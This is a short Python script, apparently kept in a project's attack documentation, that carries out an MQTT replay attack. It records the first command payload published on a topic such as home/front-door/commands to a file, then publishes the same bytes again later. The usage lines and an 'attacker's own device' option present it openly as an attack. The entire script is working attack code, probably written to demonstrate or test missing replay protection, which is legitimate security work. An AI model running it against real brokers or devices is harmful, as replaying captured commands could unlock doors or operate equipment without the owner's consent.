"""Attack: record a command on its way, send the same bytes again later.

python docs/attacks/replay.py record --port 1884 home/front-door/commands command.bin
python docs/attacks/replay.py send --port 1884 home/front-door/commands command.bin
"""

import argparse
import sys
import threading
from pathlib import Path

from paho.mqtt.client import Client, MQTTMessage
from paho.mqtt.enums import CallbackAPIVersion


def main() -> int:
    """Record or send; returns the exit code (1: nothing came by in time)."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what", choices=["record", "send"])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=1884)
    parser.add_argument("--username", help="the attacker's own device")
    parser.add_argument("--password")
    parser.add_argument("--seconds", type=float, default=60, help="how long to wait for a command")
    parser.add_argument("topic")
    parser.add_argument("file", type=Path)
    options = parser.parse_args()
    done = threading.Event()

    def subscribe(client: Client, *_what: object) -> None:
        client.subscribe(options.topic, qos=1)

    def on_message(_client: Client, _data: object, message: MQTTMessage) -> None:
        options.file.write_bytes(message.payload)
        done.set()

    client = Client(CallbackAPIVersion.VERSION2)
    if options.username:
        client.username_pw_set(options.username, options.password)
    client.on_message = on_message
    client.on_subscribe = lambda *_: print("listening", file=sys.stderr, flush=True)
    if options.what == "record":
        client.on_connect = subscribe
    client.connect(options.host, options.port)
    client.loop_start()
    if options.what == "send":
        client.publish(options.topic, options.file.read_bytes(), qos=1).wait_for_publish(5)
        done.set()
    caught = done.wait(options.seconds)
    client.disconnect()
    client.loop_stop()
    return 0 if caught else 1


sys.exit(main())
